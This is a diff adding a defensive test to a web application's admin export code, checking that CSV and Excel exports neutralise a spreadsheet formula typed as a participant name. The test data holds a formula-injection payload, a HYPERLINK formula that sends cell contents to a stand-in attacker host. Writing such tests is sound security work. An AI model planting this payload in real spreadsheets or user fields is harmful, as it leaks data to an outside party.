@@ -158,3 +158,17 @@ def test_exports_report_attempts_and_participation(admin, competition, township,
     assert workbook.sheetnames == ["attempts", "townships", "organisations"]
     assert workbook["attempts"].max_row == 3
     assert admin.get(f"/admin/competitions/{competition.id}/export.pdf").status_code == 404
+
+
+def test_exports_never_carry_a_formula_typed_as_a_name(admin, competition, now):
+    attempt = _finished_attempt(competition, "x")
+    attempt.participant.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    db.session.commit()
+    rows = list(csv.reader(io.StringIO(admin.get(
+        f"/admin/competitions/{competition.id}/export.csv?what=attempts").data
+        .decode("utf-8-sig"))))
+    assert rows[1][3] == "'" + attempt.participant.name
+    workbook = load_workbook(io.BytesIO(admin.get(
+        f"/admin/competitions/{competition.id}/export.xlsx").data))
+    cell = workbook["attempts"]["D2"]
+    assert cell.data_type == "s" and cell.value == attempt.participant.name
